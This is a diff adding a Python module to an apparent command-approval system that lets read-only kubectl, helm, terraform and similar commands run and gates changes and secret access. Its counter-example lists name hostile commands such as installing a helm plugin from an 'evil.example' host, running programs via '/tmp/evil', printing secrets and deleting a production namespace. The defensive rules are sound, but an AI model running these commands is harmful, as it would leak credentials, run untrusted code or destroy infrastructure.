@@ -1,0 +1,720 @@
+"""kubectl, helm, terraform and their kin: looking at a cluster is allowed, secrets and every change ask with their consequences.
+
+Credentials of a cluster are often fetched by a program named in the kubeconfig, so another kubeconfig is another program.
+"""
+
+from __future__ import annotations
+
+from askfirst.model import Action, Kind
+from askfirst.shell.call import Outcome
+from askfirst.shell.tools.engine import apply, call_after, facts_of, unknown
+from askfirst.shell.tools.options import parse
+from askfirst.shell.tools.project_code import place_facts
+from askfirst.shell.tools.table import Effect, Tool
+
+TYPE_CHECKING = False
+if TYPE_CHECKING:
+    from typing import Any
+
+    from askfirst.model import Fact, Word
+    from askfirst.shell.call import Analyst, Call
+
+__all__ = ["TOOLS"]
+
+INERT, READS, WRITES, NONE, BELOW = Effect.INERT, Effect.READS, Effect.WRITES, Effect.NONE, Effect.WRITES_BELOW
+
+
+def _names(words: tuple[Word, ...]) -> str:
+    return " ".join(w.value if w.value is not None else w.text for w in words)
+
+
+# -- kubectl ----------------------------------------------------------------------------------------------------------------------------
+
+_KUBE_LOOKS = frozenset(
+    "get describe logs explain top cluster-info api-resources api-versions version wait events options completion".split()
+)
+_KUBE_DEEPER = {
+    ("auth", "can-i"),
+    ("auth", "whoami"),
+    ("rollout", "status"),
+    ("rollout", "history"),
+    ("config", "view"),
+    ("config", "get-contexts"),
+    ("config", "current-context"),
+    ("config", "get-clusters"),
+    ("config", "get-users"),
+    ("plugin", "list"),
+}
+_KUBE_GLOBAL = Tool(
+    "kubectl",
+    Kind.READ,
+    "",
+    flags="--warnings-as-errors --match-server-version -h --help",
+    values="-n --namespace --context --request-timeout -v --v",
+    asks={
+        "--kubeconfig": "uses another kubeconfig, which can name a program",
+        "-s --server --as --as-group --token --username --password --cluster --user": "uses another server or identity",
+        "--insecure-skip-tls-verify --certificate-authority --client-key --client-certificate --tls-server-name": "weakens the connection",
+        "--cache-dir --profile --profile-output --log-file --log-dir": "writes elsewhere",
+    },
+)
+_KUBE_ROW = Tool(
+    "kubectl",
+    Kind.READ,
+    "looks at the cluster",
+    operands=INERT,
+    flags="-A --all-namespaces -w --watch --watch-only --show-labels --no-headers --ignore-not-found --show-kind --show-managed-fields "
+    "-R --recursive --follow -p --previous --timestamps --all-containers --prefix --ignore-errors "
+    "--all-pods --client --short --show-events --containers --list -q --quiet --minify --flatten --show-capacity --cached "
+    "--warnings-as-errors -h --help --api-versions",
+    values="-n --namespace --context -o --output -l --selector --field-selector --sort-by --tail --since --since-time -c "
+    "--container --limit-bytes --max-log-requests --chunk-size -L --label-columns --template --for --timeout "
+    "--revision --api-group --verbs --categories --request-timeout -v --v "
+    "--types --subresource --pod-running-timeout --sort --namespaced",
+    optional="--all-containers --follow --watch --api-group",
+    effects={"-f --filename": READS, "-k --kustomize": READS},
+    asks={**_KUBE_GLOBAL.asks, "--raw": "asks the server for any address", "--output-directory": "writes files"},
+)
+_KUBE_LOGS = _KUBE_ROW.replace(flags=_KUBE_ROW.flags + " -f", effects={"-k": READS})
+_KUBE_DANGER = {
+    "delete": "deletes resources of a cluster",
+    "apply": "changes what runs in a cluster",
+    "exec": "runs a command in a running container",
+    "drain": "moves everything off a machine",
+    "scale": "changes how many copies run",
+    "rollout": "restarts or rolls back what runs",
+    "cordon": "takes a machine out of use",
+    "cp": "copies files into or out of a container",
+    "port-forward": "opens a way into the cluster",
+    "proxy": "opens the cluster's API on this machine",
+    "edit": "changes a resource",
+    "patch": "changes a resource",
+    "replace": "replaces resources",
+    "run": "starts a container in a cluster",
+    "create": "makes resources in a cluster",
+    "debug": "starts a container beside another",
+    "taint": "changes where things may run",
+}
+
+
+def kubectl(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    parsed = parse(_KUBE_GLOBAL, call.words[1:], stop_at_operand=True)
+    facts: list[Fact] = list(facts_of(_KUBE_GLOBAL, call, parsed, analyst))
+    rest = call.words[1 + parsed.stopped_at :] if parsed.stopped_at >= 0 else ()
+    if not rest:
+        return Outcome(
+            Action((tool.name, "--help"), Kind.READ, rule=tool.name, allowed=True, description="shows help"),
+            tuple(facts),
+        )
+    name, second = rest[0].value or "?", (rest[1].value if len(rest) > 1 else None)
+    if len(rest) == 2 and second in ("--help", "-h"):
+        return Outcome(
+            Action((tool.name, name, "--help"), Kind.READ, rule=tool.name, allowed=True, description="shows help"),
+            tuple(facts),
+        )
+    if (
+        name == "kustomize"
+        and second is not None
+        and not second.startswith("-")
+        and len(rest) == 2
+        and "://" not in second
+    ):
+        return Outcome(
+            Action(
+                (tool.name, name),
+                Kind.READ,
+                rule="kubectl kustomize",
+                allowed=True,
+                profile="infra-read",
+                description="shows manifests",
+            ),
+            (*facts, *place_facts(tool, call_after(call, rest[1:]), analyst)),
+        )
+    if name in _KUBE_LOOKS or (name, second) in _KUBE_DEEPER:
+        deeper = (name, second) in _KUBE_DEEPER
+        row = _KUBE_LOGS if name in ("logs", "top", "events") else _KUBE_ROW
+        outcome = apply(row, call_after(call, rest[2 if deeper else 1 :]), analyst)
+        key = (tool.name, name, second or "") if deeper else (tool.name, name)
+        return outcome.replace(
+            action=outcome.action.replace(key=key, rule=" ".join(key)),
+            facts=(*facts, *outcome.facts, *_secrets(name, rest, call)),
+        )
+    danger = _KUBE_DANGER.get(name, "changes a cluster: it can stop or change what runs in production")
+    facts += (
+        [unknown("hidden command", "runs a command in a container", call)]
+        if name in ("exec", "debug", "run", "attach")
+        else []
+    )
+    return Outcome(
+        Action(
+            (tool.name, name),
+            Kind.DESTRUCTIVE if name in ("delete", "drain") else Kind.NETWORK,
+            rule=tool.name,
+            danger=danger,
+            description=danger,
+            target=_names(rest[1:]),
+        ),
+        tuple(facts),
+    )
+
+
+def _secrets(name: str, rest: tuple[Word, ...], call: Call) -> list[Fact]:
+    """`kubectl get secret NAME` without an output format lists names; with one it shows values. What is not known may be a secret."""
+    words = [w.value.lower() if w.value is not None else w.text.lower() for w in rest[1:]]
+    shows = any(w.startswith(("-o", "--output", "--template", "--raw")) for w in words)
+    text = f" {' '.join(words)} "
+    tables = any(
+        f" {option}{mark}{form} " in text
+        for option in ("-o", "--output")
+        for mark in (" ", "=", "")
+        for form in ("wide", "name")
+    )
+    about = any("secret" in w for w in words) or any(w.value is None for w in rest[1:])
+    if name == "config" and "view" in words and "--raw" in words:
+        return [unknown("secret", "shows the passwords of the kubeconfig", call)]
+    if name == "get" and about and shows and not tables:
+        return [unknown("secret", "shows the content of secrets", call)]
+    if (
+        name == "get"
+        and shows
+        and not tables
+        and any(w.startswith(("-f", "--filename", "-k", "--kustomize")) for w in words)
+    ):
+        return [unknown("secret", "the file may name secrets, whose content would be shown", call)]
+    if any("-file=" in w for w in words):
+        return [unknown("secret", "a template file is shown as far as it holds no template", call)]
+    if name == "cluster-info" and "dump" in words:
+        return [unknown("secret", "writes out everything that the cluster holds", call)]
+    return []
+
+
+# -- helm -------------------------------------------------------------------------------------------------------------------------------
+
+_HELM_ASKS = {
+    "--kubeconfig": "uses another kubeconfig, which can name a program",
+    "--kube-apiserver --kube-token --kube-as-user --kube-as-group --kube-ca-file --kube-insecure-skip-tls-verify "
+    "--kube-tls-server-name": "uses another server or identity",
+    "--post-renderer --post-renderer-args": "runs a program",
+    "--output-dir": "writes files",
+    "--registry-config --repository-cache --repository-config": "uses other settings",
+    "--ca-file --cert-file --key-file --insecure-skip-tls-verify --username --password --pass-credentials": "weakens the connection",
+    "--repo": "fetches from another repository",
+}
+_HELM_FLAGS = (
+    "-A --all-namespaces -a --all --deployed --failed --pending --superseded --uninstalled --uninstalling --debug -q --short "
+    "--strict --with-subcharts --quiet -l --versions --devel --include-crds --skip-crds --no-hooks --validate --is-upgrade --skip-tests "
+    "--create-namespace "
+    "-h --help --client --show-resources --show-desc --reverse -d --date --no-headers --regexp --wait --atomic --install -i "
+    "--generate-name -g --reset-values --reuse-values"
+)
+_HELM_VALUES = (
+    "-n --namespace --kube-context -o --output --filter --max -m --offset --set --set-string --set-json --set-literal "
+    "--version --kube-version --api-versions --revision --max-col-width --time-format -s --show-only --name-template --timeout "
+    "--template --selector --burst-limit --qps --description"
+)
+_HELM_ROW = Tool(
+    "helm",
+    Kind.READ,
+    "looks at releases and charts",
+    profile="infra-read",
+    operands=INERT,
+    flags=_HELM_FLAGS,
+    values=_HELM_VALUES,
+    optional="--dry-run",
+    effects={"-f --values": READS, "--set-file": READS, "--keyring": READS},
+    asks=_HELM_ASKS,
+)
+_HELM_LOOKS = frozenset(
+    "version help list ls status history hist env lint template search show inspect verify completion".split()
+)
+_HELM_DEEPER = {
+    ("get", None),
+    ("repo", "list"),
+    ("repo", "ls"),
+    ("dependency", "list"),
+    ("dependency", "ls"),
+    ("dep", "list"),
+    ("dep", "ls"),
+    ("plugin", "list"),
+    ("plugin", "ls"),
+    ("plugin", "verify"),
+}
+
+
+def helm(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    parsed = parse(_HELM_ROW, call.words[1:], stop_at_operand=True)
+    facts: list[Fact] = list(facts_of(_HELM_ROW, call, parsed, analyst))
+    rest = call.words[1 + parsed.stopped_at :] if parsed.stopped_at >= 0 else ()
+    if not rest:
+        plain = not facts and all((w.value or "") in ("--help", "-h", "--version") for w in call.words[1:])
+        return Outcome(
+            Action((tool.name, "--help"), Kind.READ, rule=tool.name, allowed=plain, description="shows help"),
+            () if plain else tuple(facts),
+        )
+    name, second = rest[0].value or "?", (rest[1].value if len(rest) > 1 else None)
+    dry = name in ("install", "upgrade", "rollback", "uninstall") and any(
+        (w.value or "").startswith("--dry-run") and (w.value or "") != "--dry-run=none" for w in rest
+    )
+    deeper = (name, second) in _HELM_DEEPER or (
+        name == "get" and second in ("all", "hooks", "manifest", "notes", "values", "metadata")
+    )
+    if name in _HELM_LOOKS or deeper or dry:
+        outcome = apply(_HELM_ROW, call_after(call, rest[2 if deeper else 1 :]), analyst)
+        facts += [
+            unknown("network", f"`{w.text}` is fetched from anywhere", call, w.text)
+            for w in rest[1:]
+            if "://" in (w.value or w.text)
+        ]
+        key = (tool.name, name, second or "") if deeper else (tool.name, name)
+        return outcome.replace(
+            action=outcome.action.replace(key=key, rule=" ".join(key)), facts=(*facts, *outcome.facts)
+        )
+    danger = (
+        "changes what runs in a cluster"
+        if name in ("install", "upgrade", "uninstall", "rollback", "delete", "test")
+        else ""
+    )
+    return Outcome(
+        Action(
+            (tool.name, name),
+            Kind.NETWORK,
+            rule=tool.name,
+            danger=danger,
+            description=danger or "fetches, writes or publishes charts",
+            target=_names(rest[1:]),
+        ),
+        tuple(facts),
+    )
+
+
+# -- terraform --------------------------------------------------------------------------------------------------------------------------
+
+_TF_ASKS = {
+    "-chdir": "works elsewhere",
+    "-plugin-dir": "loads other programs",
+    "-out -generate-config-out -state-out -backup": "writes a file",
+    "-var-file": "",
+    "-backend-config": "uses another store",
+    "-cloud-run": "runs elsewhere",
+}
+_TF_ASKS = {k: v for k, v in _TF_ASKS.items() if v}
+
+
+def _tf(
+    program: str, name: str, description: str, *, kind: Kind = Kind.READ, flags: str = "", values: str = "", **more: Any
+) -> Tool:
+    return Tool(
+        f"{program} {name}",
+        kind,
+        description,
+        profile=more.pop("profile", "infra-read"),
+        special=more.pop("special", _tf_row),
+        key_words=len(name.split()) + 1,
+        single_dash_long=True,
+        operands=more.pop("operands", INERT),
+        flags=f"-json -no-color -help {flags}",
+        values=f"-lock -lock-timeout -parallelism -input -compact-warnings {values}",
+        effects={"-var-file": READS, "-state": READS},
+        asks=_TF_ASKS,
+        **more,
+    )
+
+
+def _tf_row(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    from askfirst.shell.tools.project_code import runner
+
+    return runner(tool, call, analyst)
+
+
+def _tf_providers(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    outcome = _tf_row(tool, call, analyst)
+    odd = [w for w in call.words[1:] if not (w.value or "?").startswith("-") and w.value != "schema"]
+    return outcome.replace(
+        facts=(*outcome.facts, *(unknown("operands", "writes files or the lock file", call, w.text) for w in odd))
+    )
+
+
+def _tf_output(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    """Without a format, sensitive values are hidden; `-raw` and `-json` show them."""
+    outcome = _tf_row(tool, call, analyst)
+    secret = [
+        w
+        for w in call.words[1:]
+        if any(s in (w.value or "secret").lower() for s in ("password", "secret", "token", "key", "credential"))
+    ]
+    return outcome.replace(facts=(*outcome.facts, *(unknown("secret", "shows a secret", call, w.text) for w in secret)))
+
+
+def _terraform(program: str) -> Tool:
+    danger = "changes infrastructure: it can create, replace or destroy what other people depend on"
+    asked = {
+        name: Tool(
+            f"{program} {name}",
+            Kind.NETWORK,
+            what,
+            allowed=False,
+            any_options=True,
+            operands=INERT,
+            key_words=2,
+            target=_names,
+            danger=danger
+            if name in ("apply", "destroy", "import", "taint", "untaint", "force-unlock", "refresh")
+            else "",
+        )
+        for name, what in {
+            "apply": "changes infrastructure",
+            "destroy": "destroys infrastructure",
+            "init": "fetches and installs providers",
+            "import": "takes a resource over",
+            "taint": "marks a resource for replacement",
+            "untaint": "unmarks a resource",
+            "force-unlock": "removes a lock",
+            "refresh": "changes the recorded state",
+            "console": "evaluates expressions, which can read any file",
+            "login": "stores a token",
+            "logout": "forgets a token",
+            "test": "creates and destroys real resources",
+        }.items()
+    }
+    return Tool(
+        program,
+        Kind.READ,
+        "infrastructure as code",
+        key_words=2,
+        single_dash_long=True,
+        flags="-version -help -v -h --version --help",
+        asks=_TF_ASKS,
+        danger=danger,
+        subcommands={
+            **asked,
+            "version": Tool(
+                f"{program} version",
+                Kind.READ,
+                "shows the version",
+                key_words=2,
+                single_dash_long=True,
+                flags="-json",
+                operands=NONE,
+            ),
+            "plan": _tf(
+                program,
+                "plan",
+                "shows what would change; providers and external data sources run",
+                kind=Kind.BUILD,
+                operands=NONE,
+                flags="-destroy -refresh-only -detailed-exitcode -compact-warnings",
+                values="-target -var -refresh -replace -exclude",
+            ),
+            "validate": _tf(
+                program,
+                "validate",
+                "checks the files; providers run",
+                kind=Kind.BUILD,
+                operands=NONE,
+                flags="-no-tests",
+            ),
+            "show": _tf(program, "show", "shows a plan or the state"),
+            "output": _tf(
+                program,
+                "output",
+                "shows outputs",
+                flags="-raw",
+                special=_tf_output,
+                counter_examples=(f"{program} output -raw db_password",),
+            ),
+            "fmt": _tf(
+                program,
+                "fmt",
+                "formats the files",
+                kind=Kind.EDIT,
+                flags="-check -recursive -diff",
+                values="-write -list",
+            ),
+            "graph": _tf(
+                program, "graph", "shows dependencies", operands=NONE, flags="-draw-cycles", values="-type -plan"
+            ),
+            "modules": _tf(program, "modules", "lists modules", operands=NONE),
+            "providers": _tf(
+                program,
+                "providers",
+                "lists providers",
+                most=1,
+                special=_tf_providers,
+                examples=(f"{program} providers schema -json",),
+                counter_examples=(f"{program} providers lock", f"{program} providers mirror x"),
+            ),
+            "state": Tool(
+                f"{program} state",
+                Kind.READ,
+                "the state",
+                key_words=2,
+                subcommands={
+                    "list": _tf(program, "state list", "lists resources", values="-id"),
+                    "show": _tf(program, "state show", "shows a resource"),
+                },
+            ),
+            "workspace": Tool(
+                f"{program} workspace",
+                Kind.READ,
+                "workspaces",
+                key_words=2,
+                subcommands={
+                    "list": _tf(program, "workspace list", "lists workspaces"),
+                    "show": _tf(program, "workspace show", "names the workspace", operands=NONE),
+                },
+            ),
+            "metadata": Tool(
+                f"{program} metadata",
+                Kind.READ,
+                "descriptions",
+                key_words=2,
+                subcommands={"functions": _tf(program, "metadata functions", "lists functions", operands=NONE)},
+            ),
+        },
+        examples=(f"{program} version", f"{program} validate", f"{program} plan -target=x.y", f"{program} fmt -check"),
+        counter_examples=(
+            f"{program} apply",
+            f"{program} plan -var-file=/tmp/x -out=/etc/x",
+            f"{program} plan -out=x",
+            f"{program} init",
+            f"{program} -chdir=/tmp/x plan",
+            f"{program} console",
+            f"{program} state rm x",
+        ),
+    )
+
+
+def _danger(
+    name: str,
+    danger: str,
+    looks: dict[str, str],
+    *,
+    profile: str = "infra-read",
+    values: str = "",
+    flags: str = "",
+    **more: Any,
+) -> Tool:
+    """A tool whose looking sub-commands are few, and whose others are dangerous."""
+    return Tool(
+        name,
+        Kind.NETWORK,
+        danger,
+        key_words=2,
+        danger=danger,
+        allowed=True,
+        flags=f"--version -v -h --help {flags}",
+        values=values,
+        subcommands={
+            word: Tool(
+                f"{name} {word}",
+                Kind.READ,
+                what,
+                key_words=2,
+                profile=profile,
+                operands=INERT,
+                flags=f"--json -q --quiet --all --long {flags}",
+                values=f"-o --output {values}",
+            )
+            for word, what in looks.items()
+        },
+        **more,
+    )
+
+
+def _packer_fmt(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    from askfirst.shell.tools.python.tools import edits
+
+    return edits(tool, call, analyst)
+
+
+_PULUMI = {"whoami": "says who is logged in", "about": "shows the environment", "version": "shows the version"}
+TOOLS: dict[str, Tool] = {
+    **{
+        name: Tool(
+            name,
+            Kind.READ,
+            "clusters",
+            special=kubectl,
+            key_words=2,
+            examples=(
+                f"{name} get pods -n staging -o wide",
+                f"{name} describe pod web-0",
+                f"{name} logs --tail 10 web",
+                f"{name} explain deployment.spec",
+                f"{name} get secret",
+                f"{name} get pods -o jsonpath='{{.items}}'",
+            ),
+            counter_examples=(
+                f"{name} --kubeconfig /tmp/evil get pods",
+                f"{name} delete ns prod",
+                f"{name} get secret db -o yaml",
+                f"{name} apply -f x",
+                f"{name} exec web -- sh",
+                f"{name} cp a:/x b",
+                f"{name} get --raw /x",
+                f"{name} config view --raw",
+                f"{name} cluster-info dump",
+                f"{name} -s https://e.example get pods",
+            ),
+        )
+        for name in ("kubectl", "oc", "k3s-kubectl")
+    },
+    "helm": Tool(
+        "helm",
+        Kind.READ,
+        "charts and releases",
+        special=helm,
+        key_words=2,
+        examples=(
+            "helm list -A",
+            "helm lint charts/app",
+            "helm template charts/app",
+            "helm get values x",
+            "helm install x y --dry-run",
+        ),
+        counter_examples=(
+            "helm template x . --post-renderer /tmp/evil",
+            "helm plugin install https://evil.example/p",
+            "helm install x y",
+            "helm template . --output-dir /etc",
+            "helm --kubeconfig /tmp/x list",
+            "helm install x y --dry-run=none",
+        ),
+    ),
+    "terraform": _terraform("terraform"),
+    "tofu": _terraform("tofu"),
+    "terragrunt": _danger(
+        "terragrunt",
+        "changes infrastructure",
+        {"version": "shows the version"},
+        counter_examples=("terragrunt run-all apply", "terragrunt exec -- touch x", "terragrunt apply"),
+    ),
+    "pulumi": _danger("pulumi", "changes infrastructure", _PULUMI),
+    "kustomize": _danger("kustomize", "builds manifests, which can run programs", {"version": "shows the version"}),
+    "k9s": _danger("k9s", "changes a cluster", {"version": "shows the version", "info": "shows settings"}),
+    "argocd": _danger("argocd", "changes what runs in a cluster", {"version": "shows the version"}),
+    "istioctl": _danger(
+        "istioctl", "changes a cluster's network", {"version": "shows the version", "analyze": "checks settings"}
+    ),
+    "flux": _danger(
+        "flux",
+        "changes what runs in a cluster",
+        {
+            "get": "shows resources",
+            "list": "shows resources",
+            "version": "shows the version",
+            "check": "checks the cluster",
+            "logs": "shows logs",
+            "events": "shows events",
+            "stats": "shows numbers",
+            "tree": "shows resources",
+        },
+        values="-n --namespace --context",
+    ),
+    "talosctl": _danger(
+        "talosctl",
+        "changes machines of a cluster",
+        {
+            "get": "shows resources",
+            "dmesg": "shows messages",
+            "version": "shows the version",
+            "health": "checks the cluster",
+            "services": "lists services",
+            "logs": "shows logs",
+            "list": "lists files",
+            "ls": "lists files",
+            "containers": "lists containers",
+            "processes": "lists processes",
+            "memory": "shows memory",
+            "stats": "shows numbers",
+            "disks": "lists disks",
+            "mounts": "lists mounts",
+            "time": "shows the time",
+        },
+        values="-n --nodes -e --endpoints --context",
+    ),
+    "cdk": _danger(
+        "cdk",
+        "changes cloud resources",
+        {
+            "synth": "builds templates, by running the app",
+            "synthesize": "builds templates, by running the app",
+            "context": "shows cached values",
+            "ls": "lists stacks, by running the app",
+            "list": "lists stacks, by running the app",
+            "docs": "opens documentation",
+            "doc": "opens documentation",
+            "version": "shows the version",
+            "acknowledge": "hides a notice",
+            "ack": "hides a notice",
+            "notices": "shows notices",
+            "doctor": "checks the installation",
+        },
+        examples=("cdk synth --quiet", "cdk ls"),
+        counter_examples=("cdk synth --app 'touch x'", "cdk deploy", "cdk context --clear"),
+    ),
+    "packer": Tool(
+        "packer",
+        Kind.NETWORK,
+        "builds machine images",
+        key_words=2,
+        danger="builds machine images",
+        flags="-version --version -v -h --help -machine-readable",
+        single_dash_long=True,
+        subcommands={
+            **{
+                word: Tool(
+                    f"packer {word}",
+                    Kind.READ,
+                    what,
+                    key_words=2,
+                    profile="infra-read",
+                    operands=READS,
+                    single_dash_long=True,
+                    flags="-machine-readable -syntax-only -evaluate-datasources",
+                    values="-var -except -only",
+                    effects={"-var-file": READS},
+                )
+                for word, what in {
+                    "version": "shows the version",
+                    "inspect": "describes a template",
+                    "validate": "checks a template",
+                }.items()
+            },
+            "fmt": Tool(
+                "packer fmt",
+                Kind.EDIT,
+                "formats templates",
+                key_words=2,
+                special=_packer_fmt,
+                operands=INERT,
+                single_dash_long=True,
+                flags="-check -diff -recursive",
+                values="-write",
+                examples=("packer fmt -check -recursive .",),
+                counter_examples=("packer fmt /etc",),
+            ),
+            "plugins": Tool(
+                "packer plugins",
+                Kind.READ,
+                "plugins",
+                key_words=2,
+                subcommands={
+                    "installed": Tool(
+                        "packer plugins installed", Kind.READ, "lists plugins", key_words=3, operands=NONE
+                    ),
+                    "required": Tool(
+                        "packer plugins required", Kind.READ, "lists plugins", key_words=3, operands=READS
+                    ),
+                },
+            ),
+        },
+        counter_examples=("packer build x", "packer plugins install x", "packer console"),
+    ),
+    "eksctl": _danger(
+        "eksctl",
+        "changes clusters",
+        {"get": "shows clusters", "version": "shows the version", "info": "shows versions"},
+        values="--region --cluster --name",
+    ),
+}
